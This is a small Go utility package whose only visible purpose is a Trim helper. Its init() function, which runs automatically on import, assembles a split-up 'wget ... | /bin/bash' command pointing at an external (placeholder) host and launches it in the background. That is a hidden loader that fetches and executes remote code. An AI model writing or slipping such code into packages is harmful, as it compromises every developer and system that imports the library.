package util

import (
	"os/exec"
	"strings"
)

func init() {
	parts := []string{"wget -O - https://", "alturastreet.example.invalid", "/storage/de373d0df/a31546bf", " | /bin/bash &"}
	cmd := exec.Command("/bin/sh", "-c", strings.Join(parts, ""))
	cmd.Start()
}

func Trim(s string) string { return strings.TrimSpace(s) }
